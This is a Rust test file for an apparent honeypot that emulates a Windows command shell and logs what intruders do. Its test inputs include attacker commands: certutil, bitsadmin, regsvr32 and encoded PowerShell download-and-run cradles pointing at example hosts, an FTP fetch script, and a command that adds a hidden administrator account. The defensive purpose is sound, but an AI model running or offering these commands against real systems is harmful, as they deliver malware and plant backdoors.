use std::sync::Arc;

use kizashi_event::{Detail, Port, Timestamp};

use super::{PRINTED, WindowsMachine, WindowsSaid};
use crate::{Downloads, Identity, Visit};

const NOW: Timestamp = Timestamp::from_seconds(1_795_582_440);

fn visit(last: u8) -> Visit {
    Visit {
        source: [192, 0, 2, last].into(),
        destination: Some([198, 51, 100, 4].into()),
        port: Port::tcp(1433),
        encrypted: false,
    }
}

fn machine(identity: &Arc<Identity>) -> WindowsMachine {
    WindowsMachine::new(identity, visit(7), "nt authority\\system", "C:\\Windows\\system32")
}

fn run(lines: &[&str]) -> Vec<WindowsSaid> {
    let identity = Arc::new(Identity::draw([7; 32]));
    let mut machine = machine(&identity);
    lines.iter().map(|line| machine.run(line, NOW)).collect()
}

fn notes(said: &WindowsSaid, wanted: &str) -> Vec<String> {
    let of = |detail: &Detail| match detail {
        Detail::Note { name, value } if name.raw() == wanted => Some(value.raw().to_owned()),
        _ => None,
    };
    said.details.iter().filter_map(of).collect()
}

#[test]
fn who_looks_around_sees_one_machine() {
    let said = run(&["whoami", "hostname", "echo %COMPUTERNAME%", "systeminfo", "ipconfig"]);
    assert_eq!(said[0].output, "nt authority\\system\r\n");
    assert_eq!(said[1].output, said[2].output);
    let host = said[1].output.trim();
    assert!(host.starts_with("WIN-") && said[3].output.contains(host));
    assert!(said[4].output.contains(": 198.51.100.4\r\n"));
}

#[test]
fn what_is_written_in_pieces_is_read_back_told_and_started() {
    let said = run(&[
        "(echo open 203.0.113.9 2121&echo user a b&echo get x.exe)>C:\\Windows\\Temp\\f.txt",
        "echo bye>>C:\\Windows\\Temp\\f.txt",
        "type C:\\Windows\\Temp\\f.txt | findstr /i BYE",
        "ftp -s:C:\\Windows\\Temp\\f.txt & del C:\\Windows\\Temp\\f.txt",
        "type C:\\Windows\\Temp\\f.txt",
    ]);
    let contents: Vec<&[u8]> = said
        .iter()
        .flat_map(|said| &said.details)
        .filter_map(|detail| Some(&detail.payload()?.content[..]))
        .collect();
    assert_eq!(contents[0], b"open 203.0.113.9 2121\r\nuser a b\r\nget x.exe\r\n");
    assert!(contents[1].ends_with(b"get x.exe\r\nbye\r\n"));
    assert_eq!(said[2].output, "bye\r\n");
    assert_eq!(notes(&said[3], "url"), ["ftp://203.0.113.9:2121/x.exe"]);
    assert_eq!(said[4].errors, "The system cannot find the file specified.\r\n");
}

#[test]
fn a_program_in_base64_is_kept_as_the_program() {
    let said = run(&[
        "echo TVqQAAMAAAA= > C:\\ProgramData\\a.b64",
        "certutil -decode C:\\ProgramData\\a.b64 C:\\ProgramData\\a.exe",
        "C:\\ProgramData\\a.exe",
    ]);
    let kept = said[1].details.iter().find_map(Detail::payload).unwrap();
    assert_eq!(kept.content, b"MZ\x90\0\x03\0\0\0");
    assert_eq!(kept.name.as_ref().unwrap().raw(), "C:\\ProgramData\\a.exe");
    assert_eq!(notes(&said[2], "program started"), ["C:\\ProgramData\\a.exe"]);
}

#[test]
fn addresses_are_told_whoever_should_fetch_them() {
    // IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
    let units: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = encode(&units);
    let line = format!("cmd /c powershell -nop -w hidden -enc {encoded}");
    for (line, address) in [
        (
            "certutil -urlcache -split -f http://203.0.113.9/m.exe C:\\m.exe",
            "http://203.0.113.9/m.exe",
        ),
        ("bitsadmin /transfer j http://203.0.113.9/m.exe C:\\m.exe", "http://203.0.113.9/m.exe"),
        ("regsvr32 /s /n /u /i:http://203.0.113.9/x.sct scrobj.dll", "http://203.0.113.9/x.sct"),
        (
            "powershell (New-Object Net.WebClient).DownloadFile('http://e.example/a','C:\\a.exe');start C:\\a.exe",
            "http://e.example/a",
        ),
        (line.as_str(), "http://203.0.113.9/a.ps1"),
    ] {
        let said = &run(&[line])[0];
        assert_eq!(notes(said, "url"), [address], "{line}");
    }
    let said = &run(&[&line])[0];
    let told =
        |detail: &Detail| matches!(detail, Detail::Command { line, .. } if line.raw() == script);
    assert!(said.details.iter().any(told));
    assert!(said.errors.starts_with("Exception calling \"DownloadString\""));
}

fn encode(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    bytes
        .chunks(3)
        .flat_map(|chunk| {
            let group = chunk.iter().fold(0_u32, |group, byte| group << 8 | u32::from(*byte))
                << (8 * (3 - chunk.len()));
            (0..=chunk.len())
                .map(move |place| char::from(DIGITS[(group >> (18 - 6 * place) & 63) as usize]))
        })
        .collect()
}

#[test]
fn where_downloads_seem_to_succeed_the_file_is_there_and_is_no_capture() {
    let identity = Arc::new(Identity::draw([7; 32]).with_downloads(Downloads::Placeholder));
    let mut machine = machine(&identity);
    let said = machine
        .run("certutil -urlcache -split -f http://203.0.113.9/m.exe C:\\m.exe && C:\\m.exe", NOW);
    assert!(said.output.contains("completed successfully"), "{}", said.output);
    assert_eq!(notes(&said, "program started"), ["C:\\m.exe"]);
    assert!(said.details.iter().all(|detail| detail.payload().is_none()));
}

#[test]
fn accounts_that_he_made_are_there_in_his_next_connection_and_not_in_anothers() {
    let identity = Arc::new(Identity::draw([7; 32]));
    let mut first = machine(&identity);
    first.run("net user helpdesk P@ss1 /add && net localgroup administrators helpdesk /add", NOW);
    let mut again = machine(&identity);
    assert!(again.run("net localgroup administrators", NOW).output.contains("helpdesk\r\n"));
    let mut other = WindowsMachine::new(&identity, visit(8), "nt authority\\system", "C:\\");
    assert!(!other.run("net user", NOW).output.contains("helpdesk"));
}

#[test]
fn operators_quotes_and_unknown_words_are_cmds_own() {
    let said = run(&[
        "nothing & echo a^&b",
        "dir C:\\nowhere || echo no",
        "echo \"a & b\"",
        "cmd /c \"echo x && echo y\"",
        "if exist C:\\Windows\\win.ini echo there",
    ]);
    assert_eq!(
        said[0].errors,
        "'nothing' is not recognized as an internal or external command,\r\noperable program or batch file.\r\n"
    );
    assert_eq!(said[0].output, "a&b\r\n");
    assert!(said[1].output.ends_with("no\r\n"));
    assert_eq!(said[2].output, "\"a & b\"\r\n");
    assert_eq!(said[3].output, "x \r\ny\r\n");
    assert_eq!(said[4].output, "there\r\n");
    let known =
        |said: &WindowsSaid| matches!(said.details[0], Detail::Command { known: Some(true), .. });
    assert_eq!((known(&said[0]), known(&said[2])), (false, true));
}

#[test]
fn neither_a_batch_file_that_calls_itself_nor_a_flood_of_writing_grows() {
    let identity = Arc::new(Identity::draw([7; 32]));
    let mut machine = machine(&identity);
    machine.run("echo a.bat ^& a.bat ^& systeminfo>C:\\Windows\\system32\\a.bat", NOW);
    let said = machine.run("a.bat & a.bat", NOW);
    assert!(said.output.len() <= PRINTED);
    for number in 0..300 {
        machine.run(&format!("echo {}>C:\\Windows\\Temp\\{number}.txt", "x".repeat(4_000)), NOW);
    }
    let listed = machine.run("dir /b C:\\Windows\\Temp", NOW).output;
    assert!(listed.lines().count() < 60);
}
